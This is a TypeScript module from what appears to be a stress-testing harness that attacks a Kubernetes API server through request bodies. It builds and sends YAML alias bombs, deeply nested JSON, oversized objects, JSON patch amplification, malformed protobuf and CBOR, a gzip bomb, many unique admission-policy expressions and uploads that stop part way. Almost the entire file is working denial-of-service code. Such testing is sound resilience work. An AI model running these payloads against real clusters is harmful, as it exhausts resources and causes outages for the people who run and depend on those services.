// Attacks by request bodies: bombs, garbage in every encoding, amplification, uploads that stop.
import { randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { closed, repeat, textOf } from './attacker.ts';
import type { Attack, Attacker } from './attacker.ts';

const configMaps = '/api/v1/namespaces/default/configmaps';
const mega = 1024 * 1024;

function post(
  attacker: Attacker,
  contentType: string,
  body: string | Uint8Array,
  path = `${configMaps}?dryRun=All`,
): Promise<void> {
  const headers = {
    'content-type': contentType,
    'content-length': String(Buffer.byteLength(body)),
  };
  return attacker.send({ method: 'POST', path, headers, body });
}

/** Each level ten times the one before. */
function aliasBomb(mark: string): string {
  const levels = ['a: &l0 [x, x, x, x, x, x, x, x, x, x]'];
  for (let level = 1; level < 9; level++) {
    const before = `*l${String(level - 1)}`;
    levels.push(`b${String(level)}: &l${String(level)} [${`${before}, `.repeat(9)}${before}]`);
  }
  return `# ${mark}\napiVersion: v1\nkind: ConfigMap\n${levels.join('\n')}\n`;
}

const yamlBombs: Attack = {
  name: 'YAML bombs',
  run: (attacker, round) =>
    repeat(60, (index) =>
      post(
        attacker,
        'application/yaml',
        index % 2 === 0 ? aliasBomb(textOf(20, round, index)) : '- '.repeat(200_000),
      ),
    ),
};

/** Long texts around small values that somebody may remember. */
const paddedYaml: Attack = {
  name: 'YAML around values',
  run: (attacker, round) =>
    repeat(40, (index) => {
      const mark = String(round * 1_000 + index).padStart(6, '0');
      const hard = ['requests.cpu', 'requests.memory', 'limits.cpu', 'limits.memory', 'pods'].map(
        (name, at) => `    ${name}: "1${String(at)}00000${mark}00"`,
      );
      const text = [
        'apiVersion: v1',
        'kind: ResourceQuota',
        `metadata: {name: quota-${mark}}`,
        'spec:',
        '  hard:',
        ...hard,
        `# ${'x'.repeat(mega - 500)}`,
      ].join('\n');
      const path = '/api/v1/namespaces/default/resourcequotas?dryRun=All';
      return post(attacker, 'application/yaml', text, path);
    }),
};

const deepJson: Attack = {
  name: 'deep JSON',
  run: (attacker) =>
    repeat(40, (index) => {
      const levels = index % 2 === 0 ? 1_000_000 : 90;
      const text = `{"data":${'['.repeat(levels)}${index % 2 === 0 ? '' : ']'.repeat(levels)}}`;
      return post(attacker, 'application/json', text);
    }),
};

/** Names that no type has: each is a text of its own, and many are told in warnings. */
const unknownFields: Attack = {
  name: 'unknown fields',
  run: (attacker, round) =>
    repeat(30, (index) => {
      const members = Array.from(
        { length: 20_000 },
        (_, at) => `"${textOf(40, at, round, index)}":1`,
      );
      const head = '"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"a"}';
      const text = `{${head},${members.join()}}`;
      return post(attacker, 'application/json', text);
    }),
};

const largeObjects: Attack = {
  name: 'objects too large',
  run: (attacker, round) =>
    repeat(40, (index) => {
      const data = { key: textOf(2.9 * mega, round, index) };
      const metadata = { name: textOf(40, round, index) };
      const object = { apiVersion: 'v1', kind: 'ConfigMap', metadata, data };
      return post(attacker, 'application/json', JSON.stringify(object), configMaps);
    }),
};

/** Copies of copies, and as many operations as there may be. */
const patches: Attack = {
  name: 'JSON patches',
  async run(attacker, round) {
    const metadata = { name: 'patched' };
    const object = {
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata,
      data: { a: 'x'.repeat(1_000) },
    };
    await post(attacker, 'application/json', JSON.stringify(object), configMaps);
    const headers = { 'content-type': 'application/json-patch+json' };
    const path = `${configMaps}/patched?dryRun=All`;
    await repeat(40, (index) => {
      const mark = textOf(20, round, index);
      const doubling = Array.from({ length: 40 }, (_, at) => ({
        op: 'copy',
        from: '/data',
        path: `/data/${mark}${String(at)}`,
      }));
      const many = Array.from({ length: index % 4 === 1 ? 10_000 : 20_000 }, (_, at) => ({
        op: 'add',
        path: `/data/${mark}${String(at)}`,
        value: 'x',
      }));
      const body = JSON.stringify(index % 2 === 0 ? doubling : many);
      return attacker.send({ method: 'PATCH', path, headers, body });
    });
  },
};

const protobufMagic = Buffer.from([0x6b, 0x38, 0x73, 0]);

/** Random bytes, nested lengths, and values of two bytes each. */
function binaryBody(index: number): Buffer {
  switch (index % 3) {
    case 0:
      return Buffer.concat([protobufMagic, randomBytes(50_000)]);
    case 1:
      return Buffer.concat([protobufMagic, Buffer.alloc(mega, Buffer.from([0x0a, 0x00]))]);
    default:
      return Buffer.alloc(mega, 0x9f); // lists in lists
  }
}

const binaryGarbage: Attack = {
  name: 'Protobuf and CBOR garbage',
  run: (attacker) =>
    repeat(90, (index) => {
      const media = index % 2 === 0 ? 'application/vnd.kubernetes.protobuf' : 'application/cbor';
      return post(attacker, media, binaryBody(index));
    }),
};

const zipped: Attack = {
  name: 'gzip bodies',
  run(attacker) {
    const body = gzipSync(Buffer.alloc(50 * mega));
    const headers = { 'content-type': 'application/json', 'content-encoding': 'gzip' };
    const path = configMaps;
    return repeat(200, () => attacker.send({ method: 'POST', path, headers, body }));
  },
};

const expressionOf = (mark: string): string =>
  `object.metadata.name != "${mark}" && object.metadata.name.matches("^${mark}.*$") && ` +
  `${'(1 + 1 > 1) && '.repeat(50)}true`;

/** Compiled when they are written, and none like another. */
const expressions: Attack = {
  name: 'expressions',
  run: (attacker, round) =>
    repeat(150, (index) => {
      const mark = textOf(24, 'm', round, index).replaceAll('-', '_');
      const object = {
        apiVersion: 'admissionregistration.k8s.io/v1',
        kind: 'ValidatingAdmissionPolicy',
        metadata: { name: 'policy' },
        spec: {
          matchConstraints: {
            resourceRules: [
              { apiGroups: [''], apiVersions: ['v1'], resources: ['pods'], operations: ['*'] },
            ],
          },
          validations: Array.from({ length: 20 }, (_, at) => ({
            expression: expressionOf(`${mark}${String(at)}`),
          })),
        },
      };
      const path = '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies?dryRun=All';
      return post(attacker, 'application/json', JSON.stringify(object), path);
    }),
};

/** Bodies that end before they should: dropped, closed half way, or reset. */
const uploads: Attack = {
  name: 'uploads that stop',
  run: (attacker) =>
    repeat(150, async (index) => {
      const socket = await attacker.tls();
      const length = index % 3 === 0 ? 'Transfer-Encoding: chunked' : 'Content-Length: 3000000';
      socket?.write(
        attacker.head(`POST ${configMaps}`, ['Content-Type: application/json', length]),
      );
      if (index % 3 === 0) socket?.write('100000\r\n');
      const part = Buffer.alloc(900_000, 0x20);
      await new Promise<void>((resolve) => {
        if (socket === undefined) resolve();
        else socket.once('close', resolve).write(part, () => resolve());
      });
      if (index % 2 === 0) socket?.destroy();
      else {
        socket?.end();
        await closed(socket, 2_000);
        socket?.destroy();
      }
    }),
};

export const bodies: readonly Attack[] = [
  yamlBombs,
  paddedYaml,
  deepJson,
  unknownFields,
  largeObjects,
  patches,
  binaryGarbage,
  zipped,
  expressions,
  uploads,
];
